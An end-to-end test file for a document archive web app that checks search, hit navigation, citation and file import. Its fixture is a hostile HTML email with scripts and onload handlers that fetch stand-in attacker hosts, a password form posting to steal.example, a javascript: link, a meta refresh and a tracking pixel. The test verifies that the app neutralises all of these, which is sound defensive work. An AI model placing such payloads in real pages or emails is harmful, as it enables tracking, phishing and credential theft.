// Search and read on; a hostile message stays inert; material is added while one searches.
import assert from "node:assert/strict";
import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { after, before, test } from "node:test";
import { openBrowser, openCase } from "../browser.js";

const MESSAGE = `From: Sender <sender@evil.example>
To: reader@desk.example
Subject: An offer
Date: Tue, 3 Mar 2020 10:00:00 +0000
Message-ID: <hostile@evil.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv=refresh content="0;url=https://evil.example/r"><base href="https://evil.example/">
<link rel=stylesheet href=https://css.example/a.css><style>body{background:url(https://bg.example/x.png)}
@import url("https://imp.example/i.css");</style><script>fetch("https://evil.example/s")</script></head>
<body onload="fetch('https://evil.example/l')"><h1 style="background-image:url(https://st.example/b.png)">The offer</h1>
<p>Please <a href="javascript:alert(1)">confirm</a> or visit <a href="https://shop.example/?id=7">our shop</a>.</p>
<img src="https://px.example/t.gif" width=1 height=1><img src="https://pics.example/cat.jpg">
<form action="https://steal.example/"><input name=pw><button>Go</button></form>
<svg onload="fetch('https://svg.example')"><image href="https://svg.example/i.png"/></svg>
<iframe src="https://frame.example/"></iframe>${"<p>offer after offer</p>".repeat(20000)}</body></html>
`;

let browser;
let folder;
let served;

/** Serves a case of the folder's own. */
async function serveCase() {
  const program = process.env.ONRECORD;
  if (!program) throw new Error("ONRECORD names the program; run `cargo xtask e2e`");
  const at = ["--case", join(folder, "hostile.case")];
  writeFileSync(join(folder, "offer.eml"), MESSAGE);
  execFileSync(program, [...at, "add", "--quiet", "--no-derive", join(folder, "offer.eml")]);
  const child = spawn(program, [...at, "--json", "serve", "--listen", "127.0.0.1:0"], {
    stdio: ["ignore", "pipe", "inherit"],
  });
  const [line] = await once(createInterface({ input: child.stdout }), "line");
  return { address: JSON.parse(line).address, stop: () => (child.kill("SIGTERM"), once(child, "exit")) };
}

before(async () => {
  folder = mkdtempSync(join(tmpdir(), "onrecord-e2e-"));
  served = await serveCase();
  browser = await openBrowser();
});

after(async () => {
  await browser?.close();
  await served?.stop();
  rmSync(folder, { recursive: true, force: true });
});

test("a hostile message stays inert: nothing runs, loads, is sent or leads away", async () => {
  const { page, context, requests, origin } = await openCase(browser, served.address);
  const dialogs = [];
  page.on("dialog", (dialog) => (dialogs.push(dialog.message()), dialog.dismiss()));
  await page.goto(`${origin}/search?q=offer`);
  await page.locator(".hit-title a").first().click();
  await page.getByRole("link", { name: "Original", exact: true }).click();
  const frame = page.frameLocator("iframe.inert");
  await frame.getByText("The offer").waitFor();
  for (const forbidden of ["script", "form", "img", "iframe", "svg", "a[href]", "link", "meta[http-equiv]"]) {
    assert.equal(await frame.locator(forbidden).count(), 0, forbidden);
  }
  await frame.getByText("our shop").click();
  await page.getByText("too small to see").waitFor();
  await page.getByText("https://px.example/t.gif").waitFor();
  await page.getByRole("link", { name: "https://shop.example/?id=7" }).click();
  await page.getByRole("heading", { name: "Where this link leads" }).waitFor();
  assert.equal(await page.locator("main a").count(), 0, "the page about a link leads nowhere itself");
  assert.deepEqual(dialogs, []);
  const outside = requests.filter((url) => !url.startsWith(origin));
  assert.deepEqual(outside, [], "nothing is asked of anybody else");
  await context.close();
});

test("the original is saved as it came", async () => {
  const { page, context, origin } = await openCase(browser, served.address);
  const { hits } = await (await page.request.get(`${origin}/search.json?q=offer`)).json();
  const answer = await page.request.get(`${origin}/documents/${hits[0].document}/original`);
  assert.match(answer.headers()["content-disposition"], /^attachment; filename="offer.eml"/);
  assert.equal((await answer.body()).toString(), MESSAGE);
  await context.close();
});

test("hits are stepped through by key, and a selection is cited", async () => {
  const { page, context, origin } = await openCase(browser, served.address);
  await page.goto(`${origin}/search?q=shop+OR+offer`);
  await page.locator(".hit-title a").first().click();
  await page.getByText(/^Hit 1 of/).waitFor();
  await page.keyboard.press("n");
  await page.getByText(/^Hit 2 of/).waitFor();
  await page.keyboard.press("p");
  await page.getByText(/^Hit 1 of/).waitFor();
  await page.locator("or-text p").first().click({ clickCount: 3 });
  await page.getByRole("link", { name: "Cite the selected words" }).click();
  await page.waitForURL(/span=\d+-\d+/);
  assert.match(await page.locator("#citation").inputValue(), /^“The offer/);
  await page.keyboard.press("Escape");
  await page.waitForURL(/search\?.*#r-/);
  await context.close();
});

test("material is added from the page while one searches", async () => {
  writeFileSync(join(folder, "later.txt"), "The harbor was closed at noon.\n");
  const { page, context, origin } = await openCase(browser, served.address);
  await page.goto(`${origin}/imports`);
  await page.getByLabel("Whole path").fill(join(folder, "later.txt"));
  await page.getByRole("button", { name: "Add", exact: true }).click();
  const meanwhile = await (await page.request.get(`${origin}/search.json?q=offer`)).json();
  assert.equal(meanwhile.total, 1);
  await page.getByText("The import is done.").waitFor();
  const after = await (await page.request.get(`${origin}/search.json?q=harbor`)).json();
  assert.equal(after.total, 1);
  await page.getByLabel("Whole path").fill("/no/such/folder");
  await page.getByRole("button", { name: "Add", exact: true }).click();
  await page.getByText("/no/such/folder").first().waitFor();
  await context.close();
});
